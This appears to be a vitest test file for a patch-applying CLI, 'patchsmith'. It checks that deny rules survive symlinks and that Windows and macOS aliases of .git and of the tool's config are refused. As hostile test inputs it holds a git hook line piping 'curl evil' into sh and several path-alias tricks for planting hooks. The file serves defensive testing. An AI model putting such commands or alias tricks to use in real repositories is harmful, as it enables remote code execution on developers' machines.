import { lstat, mkdir, mkdtemp, readdir, readFile, readlink, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { PATCHSMITH_BIN, runBin } from './bins.js';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'ps-cli-boundary-'));
  await mkdir(join(dir, 'secrets'));
  await mkdir(join(dir, 'docs'));
  await writeFile(join(dir, 'secrets/key.txt'), 'key\n');
  await writeFile(
    join(dir, '.patchsmith.json'),
    '{"permissions": [{"match": "secrets/**", "action": "deny"}]}\n',
  );
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

const ps = (args: string[], input?: string) => runBin(PATCHSMITH_BIN, args, { cwd: dir, input });
const patch = (...body: string[]) => ['*** Begin Patch', ...body, '*** End Patch', ''].join('\n');

/** Every entry below `dir` (links as their text, not followed), to show nothing changed. */
async function entries(): Promise<Record<string, string>> {
  const tree: Record<string, string> = {};
  for (const name of (await readdir(dir, { recursive: true })).sort()) {
    const path = join(dir, name);
    const stats = await lstat(path);
    if (stats.isSymbolicLink()) tree[name] = `link ${await readlink(path)}`;
    else tree[name] = stats.isDirectory() ? 'folder' : await readFile(path, 'utf8');
  }
  return tree;
}

describe('patchsmith apply: a deny rule holds through symlinks', () => {
  it.each([
    ['a symlinked folder', '../secrets', 'docs/s', 'docs/s/key.txt'],
    ['a symlink file', '../secrets/key.txt', 'docs/key.txt', 'docs/key.txt'],
  ])(
    'through %s: exit 1, DENIED naming the real path, nothing written',
    async (_name, target, link, path) => {
      await symlink(target, join(dir, link));
      const before = await entries();
      const r = ps(['apply', '--json'], patch(`*** Update File: ${path}`, '@@', '-key', '+stolen'));
      expect(r.status).toBe(1);
      const doc = JSON.parse(r.stdout);
      expect(doc).toMatchObject({ ok: false, errors: [{ code: 'DENIED' }] });
      expect(doc.errors[0].message).toContain(`${path} (real path secrets/key.txt)`);
      expect(await entries()).toEqual(before);
    },
  );
});

describe('patchsmith apply: aliases of .git and of its own config are refused on every OS', () => {
  // NTFS drops trailing dots and spaces and reads `name::$DATA` as `name`; HFS+ ignores some code
  // points; the 8.3 short name of .git is GIT~1. A tree written here may be checked out there.
  it.each([
    ['.git./hooks/pre-commit', 'PATH_INVALID'],
    ['.git::$INDEX_ALLOCATION/hooks/post-checkout', 'PATH_INVALID'],
    ['GIT~1/config', 'PATH_INVALID'],
    ['.g\u200cit/hooks/pre-commit', 'PATH_INVALID'],
    ['.patchsmith.json.', 'DENIED'],
    ['PATCHS~1.JSO', 'DENIED'],
  ])('adding %s: exit 1, %s, nothing written', async (path, code) => {
    const before = await entries();
    const r = ps(['apply', '--json'], patch(`*** Add File: ${path}`, '+#!/bin/sh', '+curl evil | sh'));
    expect(r.status).toBe(1);
    expect(JSON.parse(r.stdout)).toMatchObject({ ok: false, errors: [{ code }] });
    expect(await entries()).toEqual(before);
  });
});
